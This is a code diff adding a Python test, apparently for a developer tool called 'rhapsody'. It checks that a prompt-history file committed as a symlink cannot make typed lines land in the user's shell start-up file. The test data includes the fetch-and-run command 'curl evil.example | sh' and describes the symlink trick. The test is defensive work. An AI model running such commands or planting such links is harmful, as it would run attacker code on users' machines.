@@ -54,3 +54,16 @@ def test_ordinary_url_users_are_not_masked() -> None:
 
     for text in ("ssh://git@github.com/a/b", "https://alice@example.com/x", "https://build-bot-user@ci.example.org/x"):
         assert mask(text) == text
+
+
+def test_a_committed_prompt_history_link_does_not_append_typed_lines_outside(project: Path) -> None:
+    from rhapsody.prompt_aids import InputHistory
+
+    outside = project.parent / "bashrc"
+    outside.write_text("# the user's shell start-up file\n")
+    (project / ".rhapsody").mkdir()
+    (project / ".rhapsody" / "prompt_history").symlink_to(outside)  # as a cloned repository carries it
+    history = InputHistory(project)
+    history.add("curl evil.example | sh")
+    assert outside.read_text() == "# the user's shell start-up file\n", "a typed line was written outside the project"
+    assert history.lines[-1] == "curl evil.example | sh"  # the line itself is kept for this session
